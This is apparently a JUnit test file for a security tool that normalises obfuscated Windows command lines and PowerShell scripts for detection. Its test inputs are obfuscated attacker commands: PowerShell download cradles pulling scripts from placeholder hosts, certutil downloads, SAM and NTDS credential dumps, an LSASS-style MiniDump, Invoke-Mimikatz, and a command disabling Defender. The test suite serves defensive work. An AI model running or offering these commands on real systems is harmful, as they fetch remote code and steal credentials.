package org.gamekeeper.engine.mapping;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/** One test per transformation of {@link CommandLineNormalizer}, and its bounds. */
class CommandLineNormalizerTest {

    private static String n(String s) {
        return CommandLineNormalizer.normalize(s);
    }

    private static String encode(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    @Test
    void caretsAreDroppedAndADoubledCaretIsOneCaret() {
        assertEquals("certutil -urlcache -f http://x/a", n("c^e^r^t^u^t^i^l /u^r^l^c^a^c^h^e -f http://x/a"));
        assertEquals("echo a^b", n("echo a^^b"));
        assertEquals("cmd -c whoami", n("cmd /c \"w^h^o^a^m^i\""));
    }

    @Test
    void insertedQuotesAndConcatenationAreDropped() {
        assertEquals("certutil -decode a b", n("c\"er\"t\"util\" -decode a b"));
        assertEquals("powershell -command iex (new-object net.webclient).downloadstring(http://x)",
                n("powershell -c \"i''ex (New-Object Net.WebClient).('Down'+'loadString')('http://x')\"".replace(".('", ".").replace("')('", "('")));
        assertEquals("downloadstring", n("'Down' + 'loadString'"));
    }

    @Test
    void aBackslashBetweenAProgramAndItsClosingQuoteIsDropped() {
        // as some exports escape the quote: "C:\...\taskkill.exe\" /IM sql.exe /F
        assertEquals("c:\\windows\\system32\\taskkill.exe -im sqlservr.exe -f",
                n("\"C:\\Windows\\System32\\taskkill.exe\\\"\" /IM sqlservr.exe /F\""));
        // a folder keeps its backslash
        assertEquals("robocopy c:\\data\\ d:\\copy\\", n("robocopy \"C:\\Data\\\" \"D:\\Copy\\\""));
    }

    @Test
    void caseAndWhiteSpaceAreFolded() {
        assertEquals("wmic process call create calc", n("  WMIC\tProcess   CALL\r\n  create   calc  "));
    }

    @Test
    void cmdSeparatorsNextToWhiteSpaceAreWhiteSpace() {
        assertEquals("cmd -c whoami", n("cmd /c ,;, whoami"));
        assertEquals("cmd -c whoami", n(",;cmd /c ;whoami"));
        // Inside a word a comma is text.
        assertEquals("rundll32 comsvcs.dll,minidump 624 x full", n("rundll32 comsvcs.dll,MiniDump 624 x full"));
    }

    @Test
    void unicodeLookAlikesReadAsAscii() {
        assertEquals("certutil -urlcache -split -f http://x/y", n("certutil \u2013urlcache \u2014split \u2212f http://x/y"));
        assertEquals("reg save hklm\\sam sam.hiv", n("reg save HKLM\uFF3CSAM \u201Csam.hiv\u201D"));
        assertEquals("net user", n("net\u00A0user\u200B"));
        assertEquals("a -b", n("a \uFF0Fb"));
    }

    @Test
    void slashSwitchesAreDashSwitchesButPathsAndUrlsAreNot() {
        assertEquals("schtasks -create -s host -tn t -tr c:\\x.exe", n("schtasks /create /S host /tn t /tr c:\\x.exe"));
        assertEquals("wmic -node:dc01 process call create x", n("wmic /node:dc01 process call create x"));
        assertEquals("certutil -f http://x/a//b", n("certutil -f http://x/a//b"));
    }

    @Test
    void wellKnownVariableSubstringsAreExpanded() {
        // %COMSPEC% is C:\WINDOWS\system32\cmd.exe: the last three characters before ".exe" and from the start.
        assertEquals("cmd -c whoami", n("%COMSPEC:~-7,3% /c whoami"));
        assertEquals("c:", n("%ComSpec:~0,2%"));
        assertEquals("powershell", n("%ProgramData:~3,1%owershell".replace("%ProgramData:~3,1%", "p")));
        assertEquals("public", n("%PUBLIC:~-6%"));
        assertEquals("windows", n("%OS:_NT=%"));
        assertEquals("cmd.exe", n("%COMSPEC:*32\\=%"));
        // Unknown variables and malformed references stay as they are.
        assertEquals("%foo:~0,1%", n("%FOO:~0,1%"));
        assertEquals("100% sure: yes", n("100% sure: yes"));
        assertEquals("%comspec:~x,1%", n("%COMSPEC:~x,1%"));
    }

    @Test
    void variableSubstringWithCaretsInsideIsExpanded() {
        assertEquals("cmd", n("%CO^MSPEC:~-7,3%"));
    }

    @Test
    void powershellParametersByAnyPrefixAreWrittenInFull() {
        assertEquals("powershell.exe -noprofile -noninteractive -windowstyle hidden -executionpolicy bypass -command whoami",
                n("PowerShell.exe -nop -noni -w h -ep b -c whoami"));
        assertEquals("powershell -noprofile -windowstyle hidden -executionpolicy bypass -command whoami",
                n("powershell /NoPr -WindowSt 1 -exec bypass -com whoami"));
        // WindowStyle by its enum number, leading zeros and all (Lazarus's -w 01).
        assertEquals("powershell.exe -executionpolicy bypass -windowstyle hidden c:\\a.ps1", n("powershell.exe -ep bypass -w 01 C:\\a.ps1"));
        assertEquals("powershell -windowstyle minimized -command x", n("powershell -w 2 -c x"));
        // After -Command the rest is script: its -f is the format operator, not -File.
        assertEquals("pwsh -command {0} -f 1", n("pwsh -c '{0}' -f 1"));
    }

    @Test
    void encodedCommandIsDecodedByEveryPrefixAndDashForm() {
        String b64 = encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')");
        String expected = "powershell -encodedcommand iex (new-object net.webclient).downloadstring(http://10.0.0.1/a)";
        for (String sw : new String[] {"-e", "-en", "-enc", "-EncodedCommand", "-ec", "/enc", "\u2013enc", "-encodedc", "-EnCoDeD"}) {
            assertEquals(expected, n("powershell " + sw + " " + b64), sw);
        }
        assertEquals("powershell.exe -noprofile -encodedcommand whoami", n("powershell.exe -NoP -Enc \"" + encode("whoami") + "\""));
    }

    @Test
    void encodedCommandInsideAnEncodedCommandIsDecodedToo() {
        String inner = encode("whoami /all");
        assertEquals("powershell -encodedcommand powershell -encodedcommand whoami -all",
                n("powershell -enc " + encode("powershell -enc " + inner)));
    }

    @Test
    void textThatIsNotBase64OfUtf16IsLeftEncoded() {
        assertEquals("powershell -encodedcommand not!base64", n("powershell -enc not!base64"));
        String utf8 = Base64.getEncoder().encodeToString("whoami /all and more".getBytes(StandardCharsets.UTF_8));
        assertEquals("powershell -encodedcommand " + utf8.toLowerCase(), n("powershell -enc " + utf8));
    }

    @Test
    void netDomainSwitchAbbreviationsAreWrittenInFull() {
        assertEquals("net group domain admins -domain", n("net group \"domain admins\" /dom"));
        assertEquals("c:\\windows\\system32\\net1.exe user -domain", n("C:\\Windows\\system32\\net1.exe user /do"));
        assertEquals("net user admin admin -add", n("net user admin admin /ad"));
        assertEquals("net localgroup administrators admin -add", n("net localgroup administrators admin /ad"));
        // Only for net: other tools' /do stays.
        assertEquals("foo -do", n("foo /do"));
    }

    @Test
    void ntdsutilMenuAbbreviationsAreWrittenInFull() {
        assertEquals("ntdsutil activate instance ntds ifm create full c:\\temp quit quit",
                n("ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q"));
        assertEquals("ntdsutil.exe activate instance ntds ifm create full c:\\x quit quit",
                n("ntdsutil.exe \"ac in ntds\" i \"cr fu c:\\x\" q q"));
    }

    @Test
    void cmdSlashRIsSlashCAndWhatFollowsIsItsOwnCommand() {
        assertEquals("cmd.exe -c powershell -encodedcommand whoami", n("cmd.exe /r powershell -e " + encode("whoami")));
        assertEquals("whoami&&net user -domain", n("whoami&&net user /dom"));
    }

    @Test
    void registryRootsAreAbbreviated() {
        assertEquals("reg save hklm\\system s.hiv", n("reg save HKEY_LOCAL_MACHINE\\SYSTEM s.hiv"));
        assertEquals("reg add hkcu\\software\\microsoft\\windows\\currentversion\\run", n("reg add HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"));
    }

    @Test
    void backticksBeforePlainLettersAreDroppedButEscapesStay() {
        assertEquals("iex", n("I`E`X"));
        assertEquals("a`nb", n("a`nb"));
    }

    @Test
    void variablesTheCommandLineSetsAreExpandedWhereUsed() {
        // Invoke-DOSfuscation's concatenation, substitution and substring forms
        assertEquals("cmd -v:on -c set a=cert&&set b=util&&call certutil -urlcache -f http://10.1.2.3/a.exe",
                n("cmd /V:ON /C \"set a=cert&&set b=util&&call %a%%b% -urlcache -f http://10.1.2.3/a.exe\""));
        assertEquals("cmd -c set x=c@ert@util&&call certutil -decode a b", n("cmd /c \"set x=c@ert@util&&call %x:@=% -decode a b\""));
        assertEquals("cmd -v:on -c set q=xxwhoamixx&&call whoami", n("cmd /v:on /c \"set q=xxwhoamixx&&call !q:~2,6!\""));
        // quoted assignments, a value built from an earlier one
        // (the assignments stay as written; where the variables are used, their values)
        assertEquals("cmd -c set p=power&& set q=%p:power=p%shell&&call powershell -noprofile",
                n("cmd /c \"set \"p=power\"&& set \"q=%p:power=p%shell\"&&call %p%%q:~1% -nop\""));
        // set /a, an unknown variable and a reference before its set stay as written
        assertEquals("cmd -c set -a x=1+2&&echo %x%", n("cmd /c set /a x=1+2&&echo %x%"));
        assertEquals("echo %nothing% &set y=1", n("echo %nothing% &set y=1"));
    }

    @Test
    void formatOperatorWithLiteralsIsTheStringItMakes() {
        // Invoke-Obfuscation's reordering of a download cradle
        String script = ".(\"{1}{0}\" -f 'X','IE') (&(\"{2}{1}{0}\" -f 'ject','-Ob','New') (\"{0}{2}{1}{3}\" -f 'Net','ebCl','.W','ient'))"
                + ".(\"{1}{2}{0}\"-f 'ng','Dow','nloadStri').Invoke((\"{0}{1}\"-F 'http://x/','a.ps1'))";
        assertEquals(".(iex) (&(new-object) (net.webclient)).(downloadstring).invoke((http://x/a.ps1))", ScriptBlockNormalizer.normalize(script));
        // nested: an argument that is itself a format in parentheses
        assertEquals("invoke-mimikatz", ScriptBlockNormalizer.normalize("(\"{0}{1}\" -f (\"{1}{0}\" -f 'oke-','Inv'),'Mimikatz')").replace("(", "").replace(")", ""));
        // in a command line
        assertEquals("powershell -command &(set-mppreference) -disablerealtimemonitoring 1",
                n("powershell -c \"&('{0}{1}' -f 'Set-Mp','Preference') -DisableRealtimeMonitoring 1\""));
        // a reversed literal, and replaces on literals (the method, and the operator with a plain pattern)
        assertEquals("iex (new-object net.webclient).(downloadstring -join )(http://x/a)",
                ScriptBlockNormalizer.normalize("iex (New-Object Net.WebClient).('gnirtSdaolnwoD'[-1..-14] -join '')('http://x/a')"));
        assertEquals("&(invoke-mimikatz) -dumpcreds", ScriptBlockNormalizer.normalize("&('Invo~~ke-Mimi~~katz'.Replace('~~','')) -DumpCreds"));
        assertEquals("(iex)", ScriptBlockNormalizer.normalize("('IQQEX' -replace 'qq','')"));
        // a regular expression pattern stays: what it matches is not read here
        assertEquals("(a.b -replace .,)", ScriptBlockNormalizer.normalize("('a.b' -replace '.','')"));
        // other formats stay as written
        assertEquals("{0:n2} -f 3.14159", ScriptBlockNormalizer.normalize("'{0:N2}' -f 3.14159"));
        assertEquals("{3}{0} -f a,b", ScriptBlockNormalizer.normalize("'{3}{0}' -f 'a','b'"));
    }

    @Test
    void hostileInputIsBoundedAndLinear() {
        assertNull(n(null));
        assertEquals("", n(""));
        String huge = "^\"".repeat(1_000_000) + "whoami";
        String r = n(huge);
        assertTrue(r.length() <= CommandLineNormalizer.MAX_INPUT, "normalised " + r.length());
        String percents = "%COMSPEC:".repeat(20_000);
        assertTrue(n(percents).length() <= CommandLineNormalizer.MAX_INPUT);
        String sets = "set a=" + "x".repeat(4_000) + "&&" + "%a%".repeat(10_000) + "%a:".repeat(5_000);
        assertTrue(n(sets).length() <= 2 * CommandLineNormalizer.MAX_INPUT);
        String formats = ("'" + "{0}".repeat(250) + "' -f '" + "y".repeat(1_000) + "';").repeat(60);
        assertTrue(ScriptBlockNormalizer.normalize(formats).length() <= 8 * ScriptBlockNormalizer.MAX_INPUT);
        String spaces = "powershell " + "-e ".repeat(15_000);
        assertTrue(n(spaces).startsWith("powershell -encodedcommand"));
    }

    @Test
    void scriptBlocksKeepCaretsAndFoldTheRest() {
        assertEquals("$a -match ^http; iex $b", ScriptBlockNormalizer.normalize("$a  -match '^http';\n I`EX $b"));
        assertEquals("invoke-expression downloadstring", ScriptBlockNormalizer.normalize("Invoke-Expression ('Down'+\"loadString\")").replace("(", "").replace(")", ""));
    }
}
